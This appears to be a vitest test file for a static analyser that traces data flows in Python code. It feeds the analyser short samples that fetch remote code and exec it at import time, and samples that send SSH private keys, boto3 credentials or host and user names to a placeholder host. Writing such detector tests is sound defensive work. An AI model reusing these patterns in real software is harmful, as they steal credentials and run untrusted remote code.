import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];
const FETCH = 'urlopen("https://m.example.invalid").read()';

test.each<[string, Way, string]>([
  ['a class of classes asks the classes that it makes', ['network', 'exec'], `from urllib.request import urlopen\nclass Meta(type):\n    def __new__(mcs, name, bases, names):\n        cls = super().__new__(mcs, name, bases, names)\n        cls.boot()\n        return cls\n    def boot(cls):\n        exec(cls.source())\nclass Bed(metaclass=Meta):\n    @classmethod\n    def source(cls):\n        return ${FETCH}\n`],
  ['an object that is made by hand has the methods of its class', ['network', 'exec'], `from urllib.request import urlopen\nclass Bed:\n    def __new__(cls):\n        bed = object.__new__(cls)\n        bed.plant()\n        return bed\n    def plant(self): exec(${FETCH})\nBed()\n`],
  ['a descriptor knows whose attribute it is', ['network', 'process'], `import os\nfrom urllib.request import urlopen\nclass Kept:\n    def __init__(self, give): self.give = give\n    def __set_name__(self, owner, name):\n        self.name = name\n        setattr(owner, "_" + name, self.give())\n    def __get__(self, bed, owner=None): return getattr(owner, "_" + self.name)\ndef dig(): return ${FETCH}\nclass Bed:\n    line = Kept(dig)\nos.system(Bed.line)\n`],
  ['an object above a function is called with it', ['network', 'exec'], `from urllib.request import urlopen\nclass Planted:\n    def __call__(self, function):\n        exec(${FETCH})\n        return function\n@Planted()\ndef bed(): pass\n`],
  ['an object above a function that is for with is entered', ['network', 'exec'], `import contextlib\nfrom urllib.request import urlopen\nclass Planted(contextlib.ContextDecorator):\n    def __enter__(self): exec(${FETCH})\n@Planted()\ndef bed(): pass\nbed()\n`],
  ['an error of the file holds what it was made of', ['network', 'exec'], `from urllib.request import urlopen\nclass Rain(Exception):\n    def __init__(self, drops):\n        super().__init__("rain")\n        self.drops = drops\ntry:\n    raise ExceptionGroup("x", [Rain(${FETCH})])\nexcept* Rain as several:\n    for rain in several.exceptions: exec(rain.drops)\n`],
  ['an heir of a client sends what it keeps for each request', ['host', 'network'], 'import getpass, platform, requests\nclass Client(requests.Session):\n    def __init__(self):\n        super().__init__()\n        self.headers.update({"X": platform.node() + getpass.getuser()})\nClient().get("https://m.example.invalid")\n'],
  ['what is kept in an attribute later is known to who was read before', ['credentials', 'network'], 'import atexit, os, requests\nclass Bed:\n    def __init__(self):\n        self.found = []\n        atexit.register(self.close)\n    def fill(self): self.found += [open(os.path.expanduser("~/.ssh/id_rsa")).read()]\n    def close(self):\n        for leaf in self.found: requests.post("https://m.example.invalid", data=leaf)\nBed().fill()\n'],
])('%s', async (_, way, text) => {
  expect(await flows(text, way)).toContain('import');
});

test('a class that takes the place of what it inherits from still has what that one gives', async () => {
  const text = 'import boto3, requests\nclass Session(boto3.session.Session):\n    def __init__(self):\n        super().__init__()\n        requests.post("https://m.example.invalid", json=str(self.get_credentials()))\nboto3.session.Session = Session\n';
  expect(await flows(text, ['credentials', 'network'])).toEqual(['latent']);
});

test.each<[string, Way, string]>([
  ['a class of classes that only counts them', ['network', 'exec'], `from urllib.request import urlopen\nclass Meta(type):\n    def __new__(mcs, name, bases, names):\n        cls = super().__new__(mcs, name, bases, names)\n        cls.count()\n        return cls\n    def count(cls): cls.rows = len(cls.source())\nclass Bed(metaclass=Meta):\n    @classmethod\n    def source(cls): return ${FETCH}\nexec("x = 1")\n`],
  ['an object above a function that only notes it', ['network', 'exec'], `from urllib.request import urlopen\nclass Planted:\n    def __call__(self, function): return function\n    def water(self): exec(${FETCH})\n@Planted()\ndef bed(): pass\n`],
  ['an heir of a client that keeps its own name', ['host', 'network'], 'import platform, requests\nclass Client(requests.Session):\n    def __init__(self):\n        super().__init__()\n        self.headers.update({"User-Agent": "garden/1.0"})\nprint(platform.node())\nClient().get("https://m.example.invalid")\n'],
])('%s is left alone', async (_, way, text) => {
  expect(await flows(text, way)).not.toContain('import');
});
